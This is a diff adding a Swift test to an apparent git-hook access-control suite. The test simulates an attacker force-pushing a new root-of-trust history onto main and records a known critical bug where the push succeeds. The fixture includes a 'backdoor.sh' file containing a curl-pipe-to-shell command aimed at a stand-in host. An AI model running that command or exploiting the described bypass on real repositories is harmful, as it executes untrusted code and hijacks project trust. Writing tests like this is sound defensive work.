@@ -95,6 +95,25 @@ struct HookRefUpdateTests {
         #expect(try s.serverRef("refs/heads/main") == tip)
     }
 
+    /// An outsider force-pushes a whole new history onto main: a root commit whose own config names only her and
+    /// allows everything. Each commit is judged by its own parent's config (the root by itself), so unless the hook
+    /// holds main to its existing root, she replaces the project's root of trust.
+    @Test func refusesReplacingMainWithAnotherRootOfTrust() throws {
+        let (s, _, root) = try world()
+        let mallory = try s.sshKey("mallory")
+        try s.git("switch", "-q", "--orphan", "evil")
+        let evilConfig = ScenarioConfig(accounts: [.init("mallory", [.ssh(mallory.publicKeyLine)])],
+                                        accessControls: "- action: allow\n")
+        let evil = try s.change("Take over", by: ScenarioSigner("mallory", key: mallory),
+                                files: [".dehub/config.yml": evilConfig.render(), "backdoor.sh": "curl evil | sh\n"])
+        let result = try s.push("--force", "origin", "evil:main")
+        let serverMain = try s.serverRef("refs/heads/main")
+        withKnownIssue("BUG (critical): main's root is checked against main after the push, so a force push replaces it") {
+            #expect(result.exitCode != 0, "\(result.transcript)")
+            #expect(serverMain == root, "main was replaced by \(serverMain ?? "nothing"); evil is \(evil)")
+        }
+    }
+
     /// A7: a commit allowed on a thread (one signature) must not reach main by a fast-forward in a second push.
     @Test func refusesBranchLaunderingThroughAThread() throws {
         let (s, team, root) = try world()
